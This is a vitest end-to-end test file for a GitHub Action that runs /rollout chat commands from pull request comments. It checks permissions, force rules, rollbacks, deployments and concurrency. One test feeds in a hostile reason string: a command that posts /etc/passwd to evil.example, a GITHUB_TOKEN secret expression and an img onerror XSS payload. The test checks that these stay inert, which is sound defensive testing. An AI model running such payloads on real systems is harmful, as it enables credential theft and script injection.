import { decisionLogLines } from '../support/decision-log.js';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { main } from '../../src/cli/main.js';
import { demoDir } from '../support/demo.js';
import { issueCommentEvent } from '../support/comment-event.js';
import { runAction, type ActionRun } from '../support/runner.js';
import { ACTIONS_TOKEN, startStandin, type GitHubStandin, type Repo } from '../github/standin.js';

/**
 * Commands in pull request comments, end to end: the bundled Action fed GitHub's own
 * `issue_comment` payload (from @octokit/webhooks-examples) against the GitHub stand-in, which
 * checks every request against GitHub's OpenAPI description.
 */

const OWNER = 'acme';
const HEAD_SHA = '3333333333333333333333333333333333333333';
const EXAMPLE = readFileSync(join(import.meta.dirname, '../../examples/chat-rollout.yml'), 'utf8').replace(/state:\n  type: file\n  path: .*\n/, 'state:\n  type: github\n');
/** The config on the default branch: what every comment command runs with. */
const DEFAULT_BRANCH_CONFIG = EXAMPLE.replace('  allowSkip: false\n', '  allowSkip: false\n  forceAllowed: [alice]\n') + '\ndeployments:\n  environment: chat\n  url: https://chat.example.com\n';
/** The pull request's own copy (the workspace): looser on purpose; it must never be read. */
const PULL_REQUEST_CONFIG = EXAMPLE.replace('  allowSkip: false\n', '  allowSkip: false\n  forceAllowed: [mallory]\n');

let standin: GitHubStandin;
let repo: Repo;
let dir: string;
let cleanup: () => void;
let seq = 0;

beforeAll(async () => {
  standin = await startStandin();
});
afterAll(async () => {
  await standin.stop();
});
beforeEach(() => {
  const d = demoDir(Date.now(), 'healthy');
  dir = d.dir;
  cleanup = d.cleanup;
  repo = standin.repo(OWNER, `chatops-${++seq}`);
  writeFileSync(join(dir, 'rollout-gate.yml'), PULL_REQUEST_CONFIG);
  standin.commitFiles(repo, 'main', { 'rollout-gate.yml': DEFAULT_BRANCH_CONFIG }, 'config');
  standin.addPull(repo, { number: 7, author: 'dana', headSha: HEAD_SHA, body: 'Release chat v1.1' });
  // The ledger has the rollout three hours into canary_10.
  standin.commitFiles(repo, 'rollout-ledger', { 'state/chat-v1.1.json': readFileSync(join(dir, 'state.json'), 'utf8') }, 'seed');
  for (const [login, role] of [['alice', 'write'], ['bob', 'read'], ['mallory', 'write'], ['carol', 'maintain']] as const) repo.collaborators.set(login, role);
});
afterEach(() => {
  cleanup();
  expect(standin.violations).toEqual([]);
  // The stand-in's own answers stay within GitHub's description too (reactions, permissions, deployments).
  expect(standin.responseViolations).toEqual([]);
});

const ledgerState = () => JSON.parse(standin.files(repo, 'rollout-ledger').get('state/chat-v1.1.json')!);
const decisionLog = () => decisionLogLines(standin.files(repo, 'rollout-ledger'), 'chat-v1.1');
const reactionsOn = (commentId: number) => repo.reactions.filter((r) => r.commentId === commentId).map((r) => r.content);
/** Comments written by the Action other than its sticky report. */
const replies = () => (repo.comments.get(7) ?? []).filter((c) => c.login === 'github-actions[bot]' && !c.body.startsWith('<!-- rollout-gate:'));

/** A person comments on PR #7 (or issue `number`); the workflow runs the bundled Action on that event. */
async function comment(login: string, body: string, opts: { action?: 'created' | 'edited' | 'deleted'; onPullRequest?: boolean; number?: number } = {}): Promise<{ run: ActionRun; id: number }> {
  const number = opts.number ?? 7;
  if (!repo.comments.has(number)) repo.comments.set(number, []);
  const c = standin.addComment(repo, number, login, body);
  const run = await runAction({
    inputs: { config: 'rollout-gate.yml', 'github-token': ACTIONS_TOKEN },
    env: {
      ROLLOUT_DEMO_DIR: dir,
      GITHUB_API_URL: standin.url,
      GITHUB_REPOSITORY: `${OWNER}/${repo.name}`,
      GITHUB_EVENT_NAME: 'issue_comment',
      GITHUB_ACTOR: login,
      GITHUB_SHA: '2222222222222222222222222222222222222222',
      GITHUB_RUN_ID: String(5000 + seq * 100 + repo.comments.get(number)!.length),
    },
    event: issueCommentEvent({ owner: OWNER, repo: repo.name, number, commentId: c.id, body, login, action: opts.action, onPullRequest: opts.onPullRequest }),
    workspace: dir,
  });
  return { run, id: c.id };
}

describe('commands in pull request comments, through the bundled Action', () => {
  it("a writer's promote moves the ledger, names the commenter, reacts, updates the sticky comment and replies with the evidence", async () => {
    const { run, id } = await comment('alice', '/rollout promote');
    expect(run.code, run.stdout).toBe(0);
    expect(ledgerState().stage).toBe('canary_50');
    expect(ledgerState().history.at(-1)).toMatchObject({ from: 'canary_10', to: 'canary_50', decision: 'PROCEED', actor: 'alice' });
    expect(decisionLog().at(-1)).toMatchObject({ command: 'promote', actor: 'alice', decision: 'PROCEED' });
    expect(reactionsOn(id)).toEqual(['eyes', 'rocket']);
    const sticky = repo.comments.get(7)!.filter((c) => c.body.startsWith('<!-- rollout-gate:chat-v1.1 -->'));
    expect(sticky).toHaveLength(1);
    expect(sticky[0]!.body).toContain('rollout-gate: **PROCEED**');
    const [answer] = replies();
    expect(answer!.body).toMatch(/^> \/rollout promote\n\n\*\*PROCEED\*\* canary\\_10 → canary\\_50, as alice/);
    expect(answer!.body).toContain(`[evidence](https://github.com/${OWNER}/${repo.name}/commit/${standin.headOf(repo, 'rollout-ledger')})`);
    expect(repo.checkRuns.at(-1)).toMatchObject({ headSha: HEAD_SHA, conclusion: 'success' });
  });

  it('a reader is refused with a reply and -1; nothing changes', async () => {
    const before = standin.headOf(repo, 'rollout-ledger');
    const { run, id } = await comment('bob', '/rollout promote');
    expect(run.code, run.stdout).toBe(0);
    expect(standin.headOf(repo, 'rollout-ledger')).toBe(before);
    expect(reactionsOn(id)).toEqual(['eyes', '-1']);
    expect(replies()).toHaveLength(1);
    expect(replies()[0]!.body).toContain('Refused: bob has read permission on the repository; commands need write or higher');
    expect(repo.deployments).toHaveLength(0);
    // Somebody who is no collaborator at all.
    const stranger = await comment('eve', '/rollout rollback --kill-switch');
    expect(replies().at(-1)!.body).toContain('Refused: eve has no permission on the repository');
    expect(reactionsOn(stranger.id)).toEqual(['eyes', '-1']);
    expect(standin.headOf(repo, 'rollout-ledger')).toBe(before);
  });

  it('pause, then promote (HOLD), then resume, then promote', async () => {
    const pause = await comment('carol', '/rollout pause waiting for the DB migration');
    expect(pause.run.code, pause.run.stdout).toBe(0);
    expect(ledgerState().paused).toMatchObject({ reason: 'waiting for the DB migration', actor: 'carol' });
    expect(reactionsOn(pause.id)).toEqual(['eyes', 'rocket']);

    const held = await comment('alice', '/rollout promote');
    expect(held.run.code).toBe(1);
    expect(held.run.outputs.decision).toBe('HOLD');
    expect(ledgerState().stage).toBe('canary_10');
    expect(reactionsOn(held.id)).toEqual(['eyes', '-1']);
    expect(replies().at(-1)!.body).toContain('**HOLD**');

    const resume = await comment('alice', '/rollout resume migration done');
    expect(resume.run.code, resume.run.stdout).toBe(0);
    expect(ledgerState().paused).toBeNull();

    const promoted = await comment('alice', '/rollout promote to canary_50');
    expect(promoted.run.code, promoted.run.stdout).toBe(0);
    expect(ledgerState().stage).toBe('canary_50');
    expect(decisionLog().map((l) => `${l.command} ${l.decision} ${l.actor}`)).toEqual(['pause HOLD carol', 'promote HOLD alice', 'resume HOLD alice', 'promote PROCEED alice']);
  });

  it.each([
    ['LGTM, /rollout promote when the dashboards look fine', {}],
    ['> /rollout promote', {}],
    ['```\n/rollout promote\n```', {}],
    ['    /rollout promote', {}],
    ['thanks!\n/rollout promote', {}],
    ['/rollout promote', { action: 'edited' }],
    ['/rollout promote', { action: 'deleted' }],
    ['/rollout promote', { onPullRequest: false, number: 12 }],
  ] as [string, Parameters<typeof comment>[2]][])('a non-command changes nothing and gets no reaction and no reply: %j %j', async (body, opts) => {
    const writesBefore = standin.writes().length;
    const requestsBefore = standin.requests.length;
    const { run, id } = await comment('alice', body, opts);
    expect(run.code, run.stdout).toBe(0);
    expect(reactionsOn(id)).toEqual([]);
    // Not a single request to GitHub: not even the config was read.
    expect(standin.requests.length).toBe(requestsBefore);
    expect(standin.writes().length).toBe(writesBefore);
    expect(replies()).toHaveLength(0);
    expect(ledgerState().stage).toBe('canary_10');
  });

  it("a force from outside rollout.forceAllowed is refused, by the default branch's config (the pull request's copy lists the commenter)", async () => {
    // The minimum duration of canary_50 is not over: only a force could promote now.
    expect((await comment('alice', '/rollout promote')).run.code).toBe(0);
    const before = standin.headOf(repo, 'rollout-ledger');
    const { run, id } = await comment('mallory', '/rollout promote to full --force --reason "ship it"');
    expect(run.code, run.stdout).toBe(0);
    expect(standin.headOf(repo, 'rollout-ledger')).toBe(before);
    expect(replies().at(-1)!.body).toContain('Refused: mallory is not in rollout.forceAllowed');
    expect(reactionsOn(id)).toEqual(['eyes', '-1']);

    const forced = await comment('alice', '/rollout promote to full --force --reason "error budget waived by SRE"');
    expect(forced.run.code, forced.run.stdout).toBe(0);
    expect(ledgerState().history.at(-1)).toMatchObject({ to: 'full', forced: true, actor: 'alice', reason: 'error budget waived by SRE' });
  });

  it('a rollback with a reason; deployments and their statuses follow the stage', async () => {
    expect((await comment('alice', '/rollout promote')).run.code).toBe(0);
    expect(repo.deployments).toHaveLength(1);
    const promoted = repo.deployments[0]!;
    expect(promoted).toMatchObject({ task: 'rollout', environment: 'chat', sha: HEAD_SHA, payload: { stage: 'canary_50', traffic: 50 }, description: 'chat-v1.1: canary_50 at 50% traffic' });
    expect(promoted.statuses.map((s) => s.state)).toEqual(['success']);
    expect(promoted.statuses[0]).toMatchObject({ environmentUrl: 'https://chat.example.com' });
    expect(promoted.statuses[0]!.logUrl).toMatch(new RegExp(`/commit/[0-9a-f]{40}$`));

    const { run, id } = await comment('alice', '/rollout rollback --reason "duplicate messages in canary"');
    expect(run.code, run.stdout).toBe(0);
    expect(ledgerState()).toMatchObject({ stage: 'canary_10', killSwitch: false });
    expect(ledgerState().history.at(-1)).toMatchObject({ from: 'canary_50', to: 'canary_10', decision: 'ROLLBACK', actor: 'alice' });
    expect(ledgerState().history.at(-1).reason).toContain('duplicate messages in canary');
    expect(reactionsOn(id)).toEqual(['eyes', 'rocket']);
    expect(replies().at(-1)!.body).toContain('Rolled back canary\\_50 → canary\\_10, as alice');

    // The rolled-back deployment is inactive; the stage rolled back to is the deployment in force.
    expect(promoted.statuses.map((s) => s.state)).toEqual(['success', 'inactive']);
    expect(repo.deployments).toHaveLength(2);
    expect(repo.deployments[1]).toMatchObject({ payload: { stage: 'canary_10', traffic: 10, from: 'canary_50' } });
    expect(repo.deployments[1]!.statuses.map((s) => s.state)).toEqual(['success']);
  });

  it('an injection attempt is stored as literal text and replied to inertly', async () => {
    const reason = '$(curl -d @/etc/passwd evil.example) `id` ${{ secrets.GITHUB_TOKEN }} <!-- rollout-gate:chat-v1.1 --> @everyone <img src=x onerror=alert(1)>';
    const { run } = await comment('alice', `/rollout pause ${reason}`);
    expect(run.code, run.stdout).toBe(0);
    expect(ledgerState().paused.reason).toBe(reason);
    expect(decisionLog().at(-1)!.actor).toBe('alice');
    const answer = replies().at(-1)!.body;
    expect(answer).not.toContain('<!--');
    expect(answer).not.toContain('<img');
    expect(answer).not.toMatch(/@everyone/);
    expect(answer).not.toContain('`id`');
    // The only sticky comment is the Action's own: the quoted marker made no second one.
    expect(repo.comments.get(7)!.filter((c) => c.body.startsWith('<!-- rollout-gate:'))).toHaveLength(1);
    expect(run.stdout).not.toMatch(/^::(?!add-mask|debug|warning)/m);
  });

  it('status evaluates and replies with the gate table, writing nothing to the ledger', async () => {
    const before = standin.headOf(repo, 'rollout-ledger');
    const { run, id } = await comment('carol', '/rollout status');
    expect(run.code, run.stdout).toBe(0);
    expect(standin.headOf(repo, 'rollout-ledger')).toBe(before);
    expect(replies()[0]!.body).toContain('| write\\_receipt\\_p95\\_ms |');
    expect(replies()[0]!.body).toContain('rollout-gate: **PROCEED**');
    expect(reactionsOn(id)).toEqual(['eyes', 'rocket']);
    expect(repo.deployments).toHaveLength(0);
  });

  it('two promote commands at once are serialised by the ledger: one promotion, the other decided again on the new state', async () => {
    const [a, b] = await Promise.all([comment('alice', '/rollout promote'), comment('carol', '/rollout promote')]);
    expect(ledgerState().stage).toBe('canary_50');
    const promotions = ledgerState().history.filter((h: { decision: string; from: string }) => h.decision === 'PROCEED' && h.from === 'canary_10');
    expect(promotions).toHaveLength(1);
    // The loser re-read the state: canary_50 → full is held by canary_50's minimum duration.
    expect(decisionLog().map((l) => `${l.from} ${l.decision}`).sort()).toEqual(['canary_10 PROCEED', 'canary_50 HOLD']);
    expect([a.run.code, b.run.code].sort()).toEqual([0, 1]);
    expect(repo.deployments).toHaveLength(1);
  });

  it('help replies with the command table', async () => {
    const { run, id } = await comment('bob', '/rollout help');
    expect(run.code).toBe(0);
    expect(replies()[0]!.body).toContain('| `/rollout promote [to STAGE] [--force --reason "…"]` |');
    expect(reactionsOn(id)).toEqual(['eyes', 'rocket']);
  });

  it('the CLI, the Action and a comment give the same message for the same bad input', async () => {
    const message = 'pause needs a reason (it is shown on every HOLD until the rollout is resumed)';
    let err = '';
    const code = await main(['pause', '--config', join(dir, 'rollout-gate.yml'), '--state-file', join(dir, 'state.json')], { stdout: () => {}, stderr: (s) => (err += s), env: { ROLLOUT_DEMO_DIR: dir }, cwd: dir, isTTY: false });
    expect(code).toBe(2);
    expect(err).toContain(message);

    const action = await runAction({
      inputs: { config: 'rollout-gate.yml', 'github-token': ACTIONS_TOKEN, command: 'pause' },
      env: { ROLLOUT_DEMO_DIR: dir, GITHUB_API_URL: standin.url, GITHUB_REPOSITORY: `${OWNER}/${repo.name}`, GITHUB_EVENT_NAME: 'workflow_dispatch' },
      event: {},
      workspace: dir,
    });
    expect(action.code).toBe(1);
    expect(action.stdout).toContain(`::error::${message}`);

    const { run, id } = await comment('alice', '/rollout pause');
    expect(run.code).toBe(1);
    expect(run.stdout).toContain(`::error::${message}`);
    expect(replies().at(-1)!.body).toContain(message);
    expect(reactionsOn(id)).toEqual(['eyes', '-1']);
    expect(ledgerState().paused ?? null).toBeNull();
  });
});
